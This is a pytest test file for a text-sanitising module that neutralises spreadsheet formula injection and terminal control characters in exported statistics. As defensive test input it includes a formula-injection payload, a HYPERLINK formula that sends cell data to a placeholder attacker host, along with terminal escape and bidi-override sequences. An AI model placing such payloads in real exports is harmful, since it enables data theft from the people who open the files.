"""Delivered text made inert for spreadsheets, CSV readers and consoles (one layer for all formats)."""

from __future__ import annotations

import pytest

from quarterstats.safe_text import FORMULA_TRIGGERS, console_text, is_formula_like, shorten, spreadsheet_text


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTab", "\rCR",
    "\nLF", "\uff1dSUM(1)", "\uff0b1", "\uff0d1", "\uff201",
])
def test_formula_like_text_gets_a_quote_prefix(text):
    assert is_formula_like(text)
    safe = spreadsheet_text(text)
    assert safe == "'" + text
    assert not is_formula_like(safe)


@pytest.mark.parametrize("text", ["Innenstadt-Ost", "Erfenbach", "a=b", "1-2", "", "Stadt insgesamt"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("value", [1, 2.5, None, float("nan")])
def test_non_text_values_pass_through(value):
    assert spreadsheet_text(value) is value


def test_every_trigger_is_a_single_character():
    assert all(len(c) == 1 for c in FORMULA_TRIGGERS)


def test_console_text_escapes_terminal_controls_and_bidi_overrides():
    shown = console_text("Nord\x1b[2J\x07\u202eevil\u200b\x85end")
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown and "\u200b" not in shown
    assert "\x85" not in shown
    assert shown == "Nord\\x1b[2J\\x07\\u202eevil\\u200b\\x85end"


def test_console_text_keeps_printable_unicode():
    assert console_text("Stadtteil Grübentälchen – Nord") == "Stadtteil Grübentälchen – Nord"


def test_console_text_cuts_long_values_and_says_how_long_they_were():
    shown = console_text("x" * 10_000_000)
    assert len(shown) < 120
    assert "10.000.000 characters" in shown
    assert console_text("x" * 200, limit=None) == "x" * 200


def test_shorten_leaves_short_text_alone():
    assert shorten("abc", 5) == "abc"
    assert shorten("abcdef", 5).startswith("abcde…")
